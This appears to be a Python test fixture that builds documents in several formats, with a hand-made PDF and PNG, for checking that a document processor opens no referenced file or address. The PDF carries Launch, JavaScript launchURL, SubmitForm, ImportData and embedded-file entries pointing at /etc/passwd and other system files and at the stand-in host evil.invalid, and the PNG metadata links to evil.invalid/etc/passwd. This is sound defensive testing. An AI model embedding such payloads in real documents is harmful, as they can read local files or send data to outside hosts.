"""Documents that name files and addresses in every way their format knows: none of these may be opened."""

import io

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from fuzz_corpora import FOLDER, folder_packed
from small_pdf import PAGE, SMALL, pdf, stream

NAMED = ("/etc/hostname", "/etc/passwd", "/etc/group", "/etc/motd", "evil.invalid", "curious.ttf")
"""Parts of the names: none of them may be asked for."""
_WRITTEN = ("curious.txt", "curious.md", "curious.html", "curious.rtf")


def curious_documents() -> dict[str, bytes]:
    """A document of each format, by its file name."""
    written = {name: (FOLDER / "curious" / name).read_bytes() for name in _WRITTEN}
    folders = {name: folder_packed(f"curious/{name}") for name in ("curious.docx", "curious.odt")}
    return {**written, **folders, "curious.pdf": _pdf(), "curious.png": _png()}


def _pdf() -> bytes:
    font = (
        b"<</Type/Font/Subtype/TrueType/BaseFont/Curious/Encoding/WinAnsiEncoding/FontDescriptor<</Type/FontDescriptor"
        b"/FontName/Curious/Flags 32/FontFile2 12 0 R>>>>"
    )
    file = b"<</Type/Filespec/F(/etc/passwd)/UF(/etc/passwd)/FS/URL>>"
    acts = (
        b"<</S/Launch/F(/etc/passwd)>>",
        b"<</S/GoToR/F(/etc/group)/D[0/Fit]>>",
        b"<</S/JavaScript/JS(app.launchURL\\('http://evil.invalid'\\))>>",
        b"<</S/SubmitForm/F(http://evil.invalid)>>",
        b"<</S/ImportData/F(/etc/motd)>>",
        b"<</S/URI/URI(http://evil.invalid)>>",
    )
    notes = b"".join(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A%s>>" % act for act in acts)
    return pdf(
        {
            **SMALL,
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction%s/AA<</WC%s>>/Names<</EmbeddedFiles<</Names[(x) %s]>>"
            b"/JavaScript<</Names[(y) %s]>>>>>>" % (acts[0], acts[2], file, acts[2]),
            3: SMALL[3].replace(b"/Annots[10 0 R]", b"/Annots[%s]/AA<</O%s>>" % (notes, acts[0])),
            5: stream(b"/X Do " + PAGE % 780),
            6: stream(b"<</F %s/Length 0>>" % file),
            7: font,
            11: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F%s/Page 0>>" % file),
            12: b"<</Length 0/F(/etc/curious.ttf)>>\nstream\n\nendstream",
        }
    )


def _png() -> bytes:
    told = PngInfo()
    told.add_itxt("XML:com.adobe.xmp", '<x:xmpmeta xmlns:x="adobe:ns:meta/" href="http://evil.invalid/etc/passwd"/>')
    target = io.BytesIO()
    Image.new("L", (60, 40), 255).save(target, "PNG", pnginfo=told)
    return target.getvalue()
